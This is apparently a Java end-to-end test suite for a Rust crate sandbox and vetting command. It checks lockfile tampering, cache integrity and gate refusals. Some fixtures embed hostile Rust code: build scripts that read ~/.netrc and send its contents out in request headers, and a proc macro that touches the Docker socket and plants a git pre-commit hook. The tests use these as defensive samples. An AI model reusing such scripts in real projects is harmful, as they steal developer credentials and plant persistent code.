package lazaret.e2e;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.stream.Stream;
import lazaret.e2e.harness.CargoProjectFolder;
import lazaret.e2e.harness.Crates;
import lazaret.e2e.harness.ProgramResult;
import lazaret.e2e.harness.SandboxScene;
import lazaret.e2e.harness.WorkFolder;
import lazaret.testkit.CrateBuilder;
import lazaret.testkit.JsonObject;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;

/// The command `vetting-cli sandbox` with real cargo, a real sandbox, and crates from a real gate.
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class SandboxE2E {
  private static final String BUILT = "out of the sandbox";

  private SandboxScene scene;

  @BeforeAll
  void start() {
    scene =
        SandboxScene.of(
            Crates.aged(
                CrateBuilder.crate("alpha", "1.0.0"),
                CrateBuilder.crate("beta", "1.0.0").dependency("alpha", "^1"),
                CrateBuilder.crate("gamma", "1.0.0")));
  }

  @AfterAll
  void close() {
    if (scene != null) {
      scene.close();
    }
  }

  private ProgramResult sandbox(CargoProjectFolder project, String... words) {
    return scene.builds(project.folder(), "sandbox", words);
  }

  private ProgramResult sandbox(Path packages, CargoProjectFolder project, String... words) {
    return scene.builds(packages, project.folder(), "sandbox", words);
  }

  private List<String> asked(int from) {
    return scene.scene().asked(from);
  }

  private static CargoProjectFolder project(String... dependencies) {
    CargoProjectFolder project = CargoProjectFolder.with(dependencies);
    write(project, "src/main.rs", "fn main() { println!(\"" + BUILT + "\"); }\n");
    return project;
  }

  private static void write(CargoProjectFolder project, String file, String text) {
    try {
      Files.writeString(project.folder().resolve(file), text);
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
  }

  /// Returns a project with a lockfile.
  private CargoProjectFolder locked(String... dependencies) {
    CargoProjectFolder project = project(dependencies);
    sandbox(project, "--mode", "fetch").ok();
    return project;
  }

  @Test
  void projectWithoutALockfileIsResolvedFetchedAndRun() throws IOException {
    CargoProjectFolder project = project("beta = \"1\"");

    ProgramResult ran = sandbox(project, "--", "cargo", "run", "--quiet").ok();

    assertThat(ran.out()).isEqualTo(BUILT + "\n");
    assertThat(ran.err()).contains("Cargo.lock: 2 packages, all served");
    assertThat(project.locked("alpha")).isEqualTo("1.0.0");
    try (Stream<Path> files = Files.list(project.folder())) {
      assertThat(files.map(f -> f.getFileName().toString()))
          .containsExactlyInAnyOrder("Cargo.lock", "Cargo.toml", "src");
    }
  }

  @Test
  void secondBuildAsksTheGateAboutTheLockfileOnly() {
    CargoProjectFolder project = locked("beta = \"1\"");
    int asked = scene.gate().accessLog().size();

    sandbox(project, "--", "cargo", "build").ok();
    sandbox(project, "--", "cargo", "build", "--locked").ok();

    assertThat(asked(asked)).allMatch(request -> request.startsWith("POST /desk/v1/verify"));
  }

  @Tag("ci")
  @Test
  void otherProjectOfTheUserTakesWhatIsThere() {
    locked("beta = \"1\"");
    int asked = scene.gate().accessLog().size();

    sandbox(project("beta = \"1\""), "--", "cargo", "build").ok();

    assertThat(asked(asked)).noneMatch(request -> request.startsWith("GET /dl/"));
  }

  @Test
  void changedChecksumEndsBeforeAnythingIsFetchedOrRun() {
    CargoProjectFolder project = locked("beta = \"1\"");
    project.lock(project.lock().replaceAll("checksum = \"....", "checksum = \"0000"));
    int asked = scene.gate().accessLog().size();

    ProgramResult ran = sandbox(project, "--", "cargo", "run", "--quiet").exits(125);

    assertThat(ran.out()).contains("tampered").doesNotContain(BUILT);
    assertThat(asked(asked)).noneMatch(request -> request.startsWith("GET /"));
    ProgramResult json = sandbox(project, "--json", "--", "cargo", "run", "--quiet").exits(125);
    assertThat(JsonObject.parse(json.out()).number("exit_code")).isEqualTo(125);
  }

  @Test
  void gitSourceInTheLockfileIsReported() {
    CargoProjectFolder project = locked("beta = \"1\"");
    project.lock(
        project.lock()
            + """

            [[package]]
            name = "other"
            version = "0.1.0"
            source = "git+https://example.org/other.git#0123456789012345678901234567890123456789"
            """);

    ProgramResult ran = sandbox(project, "--", "cargo", "build").exits(125);

    assertThat(ran.out()).contains("other").contains("foreign-source");
  }

  @Test
  void folderBesideTheProjectIsReportedWithTheOption() {
    CargoProjectFolder beside = project();
    CargoProjectFolder project = project("near = { path = \"%s\" }".formatted(beside.folder()));

    ProgramResult ran = sandbox(project, "--", "cargo", "build").exits(125);

    assertThat(ran.err()).contains(beside.folder().toString()).contains("--project");
  }

  @Tag("ci")
  @Test
  void staleLockfileIsBroughtUpToTheManifestsWhereAsked() {
    CargoProjectFolder project = locked("alpha = \"1\"");
    String before = project.lock();
    write(
        project,
        "Cargo.toml",
        """
        [package]
        name = "app"
        version = "0.1.0"
        edition = "2021"

        [dependencies]
        alpha = "1"
        gamma = "1"
        """);

    ProgramResult refused = sandbox(project, "--", "cargo", "build").exits(125);
    assertThat(refused.err()).contains("Cargo.lock does not name it").contains("--update-lock");
    assertThat(project.lock()).isEqualTo(before);

    ProgramResult ran = sandbox(project, "--update-lock", "--", "cargo", "build").ok();
    assertThat(ran.err()).contains("+ gamma 1.0.0");
    assertThat(project.locked("gamma")).isEqualTo("1.0.0");
  }

  @Tag("ci")
  @Test
  void changedFileInTheCacheIsFoundByTheNextFetch() throws IOException {
    Path packages = WorkFolder.folder("cache");
    sandbox(packages, project("alpha = \"1\""), "--mode", "fetch").ok();
    try (Stream<Path> files = Files.walk(packages)) {
      Path crate = files.filter(f -> f.endsWith("alpha-1.0.0.crate")).findFirst().orElseThrow();
      Files.writeString(crate, "something else");
    }

    ProgramResult ran =
        sandbox(packages, project("beta = \"1\""), "--", "cargo", "build").exits(125);

    assertThat(ran.err()).contains("alpha-1.0.0.crate").contains("SHA-256");
  }

  @Test
  void gateModeReachesTheClosureAndAMissAsksNobody() {
    CargoProjectFolder project = locked("beta = \"1\"");
    write(
        project,
        "build.rs",
        """
        use std::io::{Read, Write};
        fn ask(host: &str, path: &str) -> String {
            let mut gate = std::os::unix::net::UnixStream::connect("/gate/gate.sock").unwrap();
            let mut hello = vec![5u8, 1, 0, 5, 1, 0, 3, host.len() as u8];
            hello.extend(host.as_bytes());
            hello.extend([0, 80]);
            gate.write_all(&hello).unwrap();
            let mut reply = [0u8; 12];
            gate.read_exact(&mut reply).unwrap();
            if reply[3] != 0 {
                return "no way".to_string();
            }
            let request = format!("GET {path} HTTP/1.1\\r\\nHost: {host}\\r\\nConnection: close\\r\\n\\r\\n");
            gate.write_all(request.as_bytes()).unwrap();
            let mut answer = String::new();
            gate.read_to_string(&mut answer).unwrap();
            answer.lines().next().unwrap().to_string()
        }
        fn main() {
            for (host, path) in [
                ("gate.invalid", "/index/al/ph/alpha"),
                ("gate.invalid", "/index/ga/mm/gamma"),
                ("gate.invalid", "/index/x-/se/x-secret-of-mine"),
                ("gate.invalid", "/index/al/ph/alpha?x-secret-of-mine"),
                ("x-secret-of-mine.example.org", "/"),
            ] {
                println!("cargo:warning={host}{path} says {}", ask(host, path));
            }
        }
        """);
    scene.scene().upstream().forgetRequests();
    int asked = scene.gate().accessLog().size();

    ProgramResult ran = sandbox(project, "--mode", "gate", "--", "cargo", "build").ok();

    assertThat(ran.err())
        .contains("/index/al/ph/alpha says HTTP/1.1 200")
        .contains("/index/ga/mm/gamma says HTTP/1.1 403")
        .contains("/index/x-/se/x-secret-of-mine says HTTP/1.1 403")
        .contains("/index/al/ph/alpha?x-secret-of-mine says HTTP/1.1 404")
        .contains("x-secret-of-mine.example.org/ says no way")
        .contains("gate-refusal: GET /index/x-/se/x-secret-of-mine")
        .contains("gate-refusal: x-secret-of-mine.example.org port 80");
    assertThat(asked(asked))
        .contains("GET /index/al/ph/alpha 200")
        .noneMatch(request -> request.contains("gamma") || request.contains("secret"));
    assertThat(scene.scene().upstream().requests()).isEmpty();
  }

  @Test
  void decoyThatIsSentToTheGateIsAnAlarm() {
    CargoProjectFolder project = locked("beta = \"1\"");
    write(
        project,
        "build.rs",
        """
        use std::io::{Read, Write};
        fn main() {
            let home = std::env::var("HOME").unwrap();
            let loot = std::fs::read_to_string(format!("{home}/.netrc")).unwrap();
            let mut gate = std::os::unix::net::UnixStream::connect("/gate/gate.sock").unwrap();
            gate.write_all(b"\\x05\\x01\\x00\\x05\\x01\\x00\\x03\\x0cgate.invalid\\x00\\x50").unwrap();
            gate.read_exact(&mut [0u8; 12]).unwrap();
            for word in loot.split_whitespace() {
                let request = format!(
                    "GET /index/al/ph/alpha HTTP/1.1\\r\\nHost: gate.invalid\\r\\nX-Loot: {word}\\r\\n\\r\\n"
                );
                gate.write_all(request.as_bytes()).unwrap();
            }
        }
        """);

    ProgramResult ran = sandbox(project, "--mode", "gate", "--", "cargo", "build").exits(124);

    assertThat(ran.err())
        .contains("decoy-opened: ~/.netrc")
        .contains("decoy-value: ~/.netrc in a request to the gate, by app 0.1.0");
  }

  @Test
  void lockfileIsNotMadeWhereTheCommandForbidsIt() {
    CargoProjectFolder project = project("beta = \"1\"");

    sandbox(project, "--", "cargo", "build", "--locked").exits(125);

    assertThat(project.lockfile()).doesNotExist();
  }

  @Tag("ci")
  @Test
  void programMayReadTheSettingsOfItsProjectAndNobodyElse() {
    CargoProjectFolder project = project();
    write(project, ".env", "TOKEN=secret-of-mine\n");
    String reads = "let n = std::fs::read(\".env\").unwrap().len(); println!(\"%s{n}\");";
    write(project, "src/main.rs", "fn main() { " + reads.formatted("read ") + " }\n");

    ProgramResult program = sandbox(project, "--", "cargo", "run", "--quiet").ok();

    assertThat(program.out()).startsWith("read ").doesNotContain("secret-of-mine");
    assertThat(program.err()).contains("decoy-opened: /project/.env, by app 0.1.0");

    write(project, "build.rs", "fn main() { " + reads.formatted("cargo:warning=") + " }\n");
    ProgramResult script = sandbox(project, "--", "cargo", "build", "--quiet").exits(124);

    assertThat(script.err())
        .contains("decoy-opened: /project/.env, by app 0.1.0")
        .contains("failed because of violations");
    sandbox(project, "--on-violation", "warn", "--", "cargo", "build", "--quiet").ok();
  }

  @Test
  void artifactsAreTakenNowhereAmongSecrets() {
    CargoProjectFolder project = project();
    Path among = Path.of(System.getProperty("user.home"), ".ssh", "programs");

    ProgramResult ran =
        sandbox(project, "--artifacts", among.toString(), "--", "cargo", "build").exits(125);

    assertThat(ran.err()).contains("the folder for artifacts " + among + " must not be used");
    assertThat(among).doesNotExist();
    sandbox(project, "--artifacts", ".", "--", "cargo", "build").exits(125);
  }

  @Test
  void refusedFoldersAreNotMade() {
    CargoProjectFolder project = project();
    Path secrets = Path.of(System.getProperty("user.home"), ".ssh", "packages");

    ProgramResult target =
        sandbox(project, "--target-dir", "target", "--", "cargo", "build").exits(125);
    ProgramResult inProject =
        sandbox(project.folder().resolve("packages"), project, "--mode", "fetch");
    ProgramResult amongSecrets =
        sandbox(
            secrets, project, "--artifacts", WorkFolder.folder("built").toString(), "--", "true");

    assertThat(target.err()).contains("the target folder").contains("overlap");
    assertThat(inProject.exits(125).err()).contains("the cache").contains("is in the project");
    assertThat(amongSecrets.exits(125).err())
        .contains("the cache " + secrets + " must not be used, because it overlaps");
    assertThat(project.folder().resolve("target")).doesNotExist();
    assertThat(project.folder().resolve("packages")).doesNotExist();
    assertThat(secrets).doesNotExist();
  }

  @Tag("ci")
  @Test
  void hostileMacroHasNothingElseTakenAndHidesNoReport() throws IOException {
    CargoProjectFolder project = project("mac = { path = \"mac\" }");
    Files.createDirectories(project.folder().resolve("mac/src"));
    write(
        project,
        "mac/Cargo.toml",
        """
        [package]
        name = "mac"
        version = "0.1.0"
        edition = "2021"
        [lib]
        proc-macro = true
        """);
    write(
        project,
        "mac/src/lib.rs",
        """
        use std::fs::{create_dir_all, read_to_string, write};
        #[proc_macro]
        pub fn name(_: proc_macro::TokenStream) -> proc_macro::TokenStream {
            let _ = std::os::unix::net::UnixStream::connect("/run/docker.sock");
            create_dir_all("/out/debug/.git/hooks").unwrap();
            write("/out/debug/.git/hooks/pre-commit", "planted").unwrap();
            for line in read_to_string("said").unwrap().lines() {
                println!("{line}");
            }
            proc_macro::TokenStream::new()
        }
        """);
    write(project, "src/main.rs", "mac::name!{} fn main() {}\n");
    Path built = WorkFolder.folder("built");

    write(
        project,
        "said",
        claim("/out/debug/.git/hooks/pre-commit") + claim("/out/debug/\\u0000") + "printed\n");
    ProgramResult silent =
        sandbox(project, "--artifacts", built.toString(), "--", "cargo", "build").ok();

    assertThat(silent.out()).isEqualTo("printed\n");
    assertThat(built).isDirectoryRecursivelyContaining("glob:**/app");
    assertThat(built).isDirectoryNotContaining("glob:**/pre-commit");
    assertThat(built.resolve("debug")).isDirectoryNotContaining("glob:**/.git");

    write(project, "said", claim("/out/debug/absent"));
    write(project, "src/main.rs", "mac::name!{} fn main() { }\n");
    ProgramResult failed =
        sandbox(project, "--artifacts", built.toString(), "--", "cargo", "build", "--quiet")
            .exits(124);

    assertThat(failed.err())
        .contains("connect: /run/docker.sock")
        .contains("sandbox: cannot copy 'debug/absent' from")
        .contains("there is no such file");
  }

  @Tag("ci")
  @Test
  void whatAlarmedAlarmsAgainThoughCargoNeedNotRunItTwice() {
    CargoProjectFolder project = project();
    write(
        project,
        "build.rs",
        """
        fn main() {
            println!("cargo::rerun-if-changed=build.rs");
            let _ = std::fs::read(std::env::var("HOME").unwrap() + "/.netrc");
        }
        """);

    for (int i = 0; i < 2; i++) {
      ProgramResult ran = sandbox(project, "--", "cargo", "build", "--quiet").exits(124);
      assertThat(ran.err())
          .contains("decoy-opened: ~/.netrc, by app 0.1.0")
          .contains("runs everything again")
          .doesNotContain("sandbox: built");
    }
  }

  /// Returns a message of cargo about an artifact.
  private static String claim(String file) {
    return """
    {"reason":"compiler-artifact","target":{"kind":["bin"]},"filenames":["%s"]}
    """
        .formatted(file);
  }

  @Test
  void documentationIsFoundInTheTargetFolder() {
    Path target = WorkFolder.folder("target");

    ProgramResult ran =
        sandbox(project(), "--target-dir", target.toString(), "--", "cargo", "doc", "--quiet").ok();

    assertThat(ran.err()).contains("/out is " + target);
    assertThat(target.resolve("doc/app/index.html")).isRegularFile();
  }

  @Test
  void commandAndModeMustFit() {
    CargoProjectFolder project = project();

    sandbox(project).exits(125);
    sandbox(project, "--env", "NO_SUCH_VARIABLE", "--", "cargo", "build").exits(125);
  }

  /// The command says for which platforms the packages are fetched.
  @Test
  void fetchRunsNoCommand() {
    CargoProjectFolder project = locked("beta = \"1\"");

    sandbox(project, "--mode", "fetch", "--", "cargo", "build").ok();

    assertThat(project.folder().resolve("target/debug")).doesNotExist();
  }

  @Tag("ci")
  @Test
  void buildsOfflineWhatTheGateVouchedForBefore() {
    CargoProjectFolder project = locked("beta = \"1\"");
    CargoProjectFolder other = project("gamma = \"1\"");
    int asked = scene.gate().accessLog().size();

    ProgramResult ran = sandbox(project, "--offline", "--", "cargo", "run", "--quiet").ok();
    ProgramResult unknown = sandbox(other, "--offline", "--", "cargo", "run", "--quiet").exits(125);

    assertThat(ran.out()).isEqualTo(BUILT + "\n");
    assertThat(unknown.out()).isEmpty();
    assertThat(asked(asked)).isEmpty();

    project.lock(project.lock().replaceAll("checksum = \"....", "checksum = \"0000"));
    ProgramResult changed =
        sandbox(project, "--offline", "--", "cargo", "run", "--quiet").exits(125);
    assertThat(changed.out()).isEmpty();
    assertThat(changed.err()).contains("cannot build offline");
  }

  @Test
  void nothingRunsWhereNoGateAnswers() {
    CargoProjectFolder project = locked("beta = \"1\"");

    ProgramResult ran =
        sandbox(project, "--server", "http://127.0.0.1:1", "--", "cargo", "run", "--quiet")
            .exits(125);

    assertThat(ran.out()).isEmpty();
    assertThat(ran.err()).contains("127.0.0.1:1");
  }
}
